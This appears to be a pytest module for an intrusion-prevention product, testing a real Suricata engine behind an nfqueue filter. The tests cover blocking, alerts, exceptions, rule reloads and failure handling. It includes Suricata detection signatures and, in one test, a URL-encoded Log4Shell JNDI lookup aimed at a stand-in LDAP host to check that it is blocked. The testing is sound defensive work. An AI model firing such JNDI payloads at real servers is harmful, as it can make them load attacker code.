"""Signatures with the real Suricata behind our queue on a real bridge: what is blocked, told, excepted, and what fails."""

from __future__ import annotations

import contextlib
import os
import signal
import threading
import time
from collections.abc import Iterator
from ipaddress import ip_network
from pathlib import Path

import pytest

from firmware.inspect_lab import ADDRESSES, Lab
from firmware.lock import read_lock
from firmware.netns import call_in_namespace
from firmware.peers import Peers, prepare_peers
from firmware.recipe import ROOT
from firmware.workspace import Workspace
from mamori.events.record import Action, Heading
from mamori.inspect.nfqueue.messages import Packet, encode_verdict, requeue
from mamori.inspect.nfqueue.rules import DECIDED_MARK, SURICATA_DONE_MARK, SURICATA_QUEUE
from mamori.inspect.nfqueue.table import QueueState, is_stuck, parse_table
from mamori.inspect.policy import Ips, IpsException, Mode
from mamori.inspect.suricata.control import ControlError, RulesetStats, connect
from mamori.inspect.suricata.eve import event_of
from mamori.inspect.suricata.ruleset import RulesetError, reload
from tests.net.nfqueue_lab import FAMILIES, FILE, OPEN, accept, fetch, passes, start_web_lab, started_filter, tcp_pair
from tests.net.suricata_lab import HOME, Engine, hand_on, prepared_engine
from tests.support.wait import check_until, patience_s

URI, BODY, NOTE, NOTED = 2_900_001, 2_900_002, 2_900_003, 2_900_004
RULES = f"""\
alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"a request from inside"; flow:established,to_server; http.uri; \
content:"/forbidden"; classtype:trojan-activity; sid:{URI}; rev:4;)
alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:"data from outside"; flow:established; content:"HARMFUL"; \
classtype:attempted-admin; sid:{BODY}; rev:1;)
alert http any any -> any any (msg:"takes a note"; flow:to_server; http.uri; content:"/allowed"; flowbits:set,noted; noalert; \
classtype:trojan-activity; sid:{NOTE};)
alert http any any -> any any (msg:"reads it"; flow:to_client; flowbits:isset,noted; http.stat_code; content:"200"; \
classtype:policy-violation; sid:{NOTED};)
"""


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with start_web_lab(tmp_path_factory.mktemp("web")) as lab:
        lab.load(OPEN)
        yield lab


@pytest.fixture(scope="module")
def peers(checkout: Workspace) -> Peers:
    return prepare_peers(checkout, read_lock(checkout.root))


@pytest.fixture
def engine(lab: Lab, peers: Peers) -> Iterator[Engine]:
    with prepared_engine(lab, peers) as engine:
        engine.take(RULES)
        yield engine


@contextlib.contextmanager
def reloaded(engine: Engine, text: str, ips: Ips | None = None) -> Iterator[None]:
    engine.take(text, ips)
    with connect(engine.paths.control) as control:
        reload(control, within_s=patience_s(30))
    yield


@FAMILIES
def test_a_request_from_inside_works_is_blocked_is_excepted_and_works_again(engine: Engine, family: int) -> None:
    lab = engine.lab
    engine.take(RULES, Ips(mode=Mode.LOG))
    with engine.started(), started_filter(lab, hand_on):
        assert fetch(lab, "forbidden", family) == b"forbidden", "log only"
        check_until("it is told", lambda: engine.told(URI), within_s=5)
        with reloaded(engine, RULES):
            assert fetch(lab, "forbidden", family, within_s=2) is None
            assert fetch(lab, "allowed", family) == b"allowed"
            check_until("it is told", lambda: len(engine.told(URI)) > 1, within_s=5)
        with reloaded(engine, RULES, Ips(exceptions=(IpsException(signature=URI),))):
            assert fetch(lab, "forbidden", family) == b"forbidden"
    logged, blocked = (event_of(alert, HOME) for alert in engine.told(URI)[:2])
    assert (logged.action, blocked.action) == (Action.LOGGED, Action.BLOCKED)
    client, server = ADDRESSES["client"][family], ADDRESSES["server"][family]
    assert (blocked.heading, blocked.terminal, blocked.peer, blocked.peer_port) == (Heading.OUTBOUND, client, server, 80)
    assert (blocked.protocol, blocked.list_name) == ("http", f"signature {URI}:4")
    assert blocked.subject.endswith("/forbidden")
    assert abs(blocked.at_s - time.time()) < 120


def test_an_attack_from_outside_is_blocked_amid_a_connection_and_told_as_inbound(lab: Lab, peers: Peers) -> None:
    """The server's side is the office here, and the client attacks it."""
    home = tuple(ip_network(address) for address in ADDRESSES["server"])
    with prepared_engine(lab, peers, home) as engine, contextlib.ExitStack() as stack:
        engine.take(RULES)
        stack.enter_context(engine.started())
        stack.enter_context(started_filter(lab, hand_on))
        server, client = tcp_pair(lab, stack)
        assert passes(server, client, b"harmless" * 1000)
        client.sendall(b"HARM")
        assert server.recv(10) == b"HARM"
        client.sendall(b"FUL")
        server.settimeout(1)
        with pytest.raises(TimeoutError):
            server.recv(10)
        check_until("it is told", lambda: engine.told(BODY), within_s=5)
        event = event_of(engine.told(BODY)[0], home)
    assert (event.action, event.heading) == (Action.BLOCKED, Heading.INBOUND)
    assert (event.terminal, event.peer) == (ADDRESSES["server"][0], ADDRESSES["client"][0])


def test_a_rule_that_takes_notes_does_not_drop_and_the_one_that_reads_them_is_told(engine: Engine) -> None:
    with engine.started(), started_filter(engine.lab, hand_on):
        assert fetch(engine.lab, "allowed") == b"allowed"
        check_until("the note was read", lambda: engine.told(NOTED), within_s=5)
    assert engine.told(NOTE) == []


@pytest.mark.parametrize(
    ("exception", "excepted", "others"),
    [
        (IpsException(signature=URI, terminal=ADDRESSES["client"][0]), True, False),
        (IpsException(signature=URI, terminal=ADDRESSES["client"][0], peer=ADDRESSES["server"][0]), True, False),
        (IpsException(signature=URI, peer=ADDRESSES["server"][0] + "/32"), True, False),
        (IpsException(terminal=ADDRESSES["client"][0]), True, False),
        (IpsException(peer=ADDRESSES["server"][0], terminal="10.79.0.0/29"), True, False),
        (IpsException(signature=URI, terminal="10.79.0.99"), False, False),
        (IpsException(signature=BODY, terminal=ADDRESSES["client"][0]), False, False),
    ],
    ids=["signature, terminal", "signature, both", "signature, peer", "terminal", "both", "another terminal", "another signature"],
)
def test_an_exception_is_for_its_communication_only(engine: Engine, exception: IpsException, excepted: bool, others: bool) -> None:
    """The other communication is the same two machines by their IPv6 addresses."""
    engine.take(RULES, Ips(exceptions=(exception,)))
    with engine.started(), started_filter(engine.lab, hand_on):
        assert (fetch(engine.lab, "forbidden", 0, within_s=2) is not None) == excepted
        assert (fetch(engine.lab, "forbidden", 1, within_s=2) is not None) == others


def test_rules_are_loaded_anew_while_traffic_goes_on(engine: Engine) -> None:
    """Nothing waits for the new rules, and not one request passes that old and new rules forbid."""
    lab, stop = engine.lab, threading.Event()
    got: list[tuple[bytes | None, bytes | None]] = []  # not of the long file: a failure shows it

    def ask() -> None:
        while not stop.is_set():
            got.append((fetch(lab, "allowed"), fetch(lab, "forbidden", within_s=0.3)))

    with engine.started(), started_filter(lab, hand_on), connect(engine.paths.control) as control:
        thread = threading.Thread(target=ask)
        thread.start()
        more = "".join(
            f'alert http any any -> any any (http.uri; content:"/other{n}"; classtype:trojan-activity; sid:{n};)\n'
            for n in range(1, 2001)
        )
        for text in (RULES + more, RULES, RULES + more):
            engine.take(text)
            stats = reload(control, within_s=patience_s(30))
        stop.set()
        thread.join()
    assert stats == RulesetStats(loaded=2004, failed=0, skipped=0)
    assert set(got) == {(b"allowed", None)}
    assert len(got) >= 3


def test_a_bad_file_leaves_the_old_rules_at_work(engine: Engine) -> None:
    with engine.started(), started_filter(engine.lab, hand_on), connect(engine.paths.control) as control:
        for text in ("", "nonsense\n" * 50, "alert tcp any any -> any any (nosuch:1; sid:5;)\n"):
            with pytest.raises(RulesetError):
                engine.take(text)
        reload(control, within_s=patience_s(30))
        assert fetch(engine.lab, "forbidden", within_s=2) is None


def test_what_suricata_does_not_know_is_left_out_and_the_rest_is_taken(engine: Engine) -> None:
    text = RULES + 'alert tcp any any -> any any (msg:"at line 1"; nosuch:1; sid:5;)\n' + RULES.replace("sid:29", "sid:39")
    taken = engine.take(text)
    assert (taken.rules, taken.refused) == (8, 1)
    with engine.started(), started_filter(engine.lab, hand_on), connect(engine.paths.control) as control:
        assert control.ruleset_stats() == RulesetStats(loaded=8, failed=0, skipped=0)
        assert control.failed_rules() == []
        assert fetch(engine.lab, "forbidden", within_s=2) is None


def test_when_suricata_is_killed_traffic_goes_on_and_the_next_one_takes_over(engine: Engine) -> None:
    lab = engine.lab
    with started_filter(lab, hand_on), contextlib.ExitStack() as stack:
        ends = tcp_pair(lab, stack)
        with engine.started() as (running, pid):
            assert passes(*ends, FILE[:200_000])
            os.kill(pid, signal.SIGKILL)
            running.wait(patience_s(5))
            assert passes(*ends, FILE[:1_000_000])
            assert fetch(lab, "forbidden") == b"forbidden"
        with engine.started():
            assert passes(*ends, FILE[:200_000])
            assert fetch(lab, "forbidden", within_s=2) is None


def test_a_suricata_that_hangs_is_seen_does_not_answer_and_ends_nothing_once_it_is_killed(engine: Engine) -> None:
    lab = engine.lab
    with started_filter(lab, hand_on), contextlib.ExitStack() as stack, engine.started() as (_, pid):
        ends = tcp_pair(lab, stack)
        assert passes(*ends, FILE[:200_000])
        with connect(engine.paths.control, within_s=0.5) as control:
            assert control.version().startswith("7.")
            assert control.uptime_s() >= 0
            os.kill(pid, signal.SIGSTOP)
            check_until("all its threads have stopped", lambda: all_stopped(pid), within_s=5)
            started = time.monotonic()
            with pytest.raises(ControlError, match="no answer"):
                control.uptime_s()
            assert time.monotonic() - started < patience_s(2)
        thread = threading.Thread(target=lambda: passes(*ends, FILE[:50_000]))
        thread.start()
        check_until("packets wait", lambda: queue_state(lab).waiting, within_s=5)
        before = queue_state(lab)
        time.sleep(0.5)
        assert is_stuck(before, queue_state(lab))
        os.kill(pid, signal.SIGKILL)
        thread.join(patience_s(10))
        assert not thread.is_alive()
        assert fetch(lab, "file") == FILE


def all_stopped(pid: int) -> bool:
    """proc_pid_stat(5): the state follows the name."""
    stats = [path.read_text() for path in Path(f"/proc/{pid}/task").glob("*/stat")]
    return all(stat.rpartition(") ")[2].startswith("T") for stat in stats)


def queue_state(lab: Lab) -> QueueState:
    text = call_in_namespace(lab.box, Path("/proc/thread-self/net/netfilter/nfnetlink_queue").read_text)
    return next(queue for queue in parse_table(text) if queue.number == SURICATA_QUEUE)


def test_a_decided_connection_does_not_come_to_suricata(engine: Engine) -> None:
    lab = engine.lab

    def decide(packet: Packet) -> bytes:
        return encode_verdict(packet.queue, packet.id, requeue(SURICATA_QUEUE, bypass=True), mark=DECIDED_MARK)

    with engine.started(), started_filter(lab, decide):
        before = lab.queued(SURICATA_QUEUE) or 0
        assert fetch(lab, "file") == FILE
        assert (lab.queued(SURICATA_QUEUE) or 0) - before < 50


def test_suricata_says_when_it_is_done_and_the_worker_still_sees_the_rest(engine: Engine) -> None:
    """Of 8 MB it wants one; were our mark its own, the rest would pass uninspected."""
    lab = engine.lab
    with engine.started(), started_filter(lab, hand_on) as running:
        before = lab.queued(SURICATA_QUEUE) or 0
        assert fetch(lab, "file") == FILE
        handed_on = (lab.queued(SURICATA_QUEUE) or 0) - before
    done = [packet for packet in running.seen if packet.mark & SURICATA_DONE_MARK]
    assert sum(len(packet.payload) for packet in done) > 5_000_000
    assert sum(len(packet.payload) for packet in running.seen) > len(FILE)
    assert handed_on < 3000


def test_suricata_counts_what_it_did(engine: Engine) -> None:
    with engine.started(), started_filter(engine.lab, hand_on), connect(engine.paths.control) as control:
        assert control.traffic_stats() is None
        assert fetch(engine.lab, "forbidden", within_s=1) is None
        check_until("the counters are there", control.traffic_stats, within_s=20)
        stats = control.traffic_stats()
    assert stats is not None
    assert (stats.alerts, stats.unfollowed) == (1, 0)
    assert stats.packets > stats.dropped > 0


def test_the_images_own_rules_are_taken_by_suricata_and_block(engine: Engine) -> None:
    text = (ROOT / "overlay/common/usr/share/mamori/ips/mamori.rules").read_text()
    assert engine.take(text).refused == 0
    with engine.started(), started_filter(engine.lab, hand_on):
        for name in ("x/mamori-ips-test-5b1f0c", "?q=$%7Bjndi:ldap://192.0.2.1/a%7D"):
            assert fetch(engine.lab, name, within_s=2) is None
        check_until("both are told", lambda: engine.told(1000001) and engine.told(1000004), within_s=5)


def test_without_suricata_everything_passes_and_closed_it_does_not(lab: Lab) -> None:
    with started_filter(lab, hand_on):
        assert fetch(lab, "file") == FILE
    with started_filter(lab, lambda packet: encode_verdict(packet.queue, packet.id, requeue(SURICATA_QUEUE, bypass=False))):
        assert fetch(lab, "file", within_s=1) is None
    with started_filter(lab, accept):
        assert fetch(lab, "file") == FILE
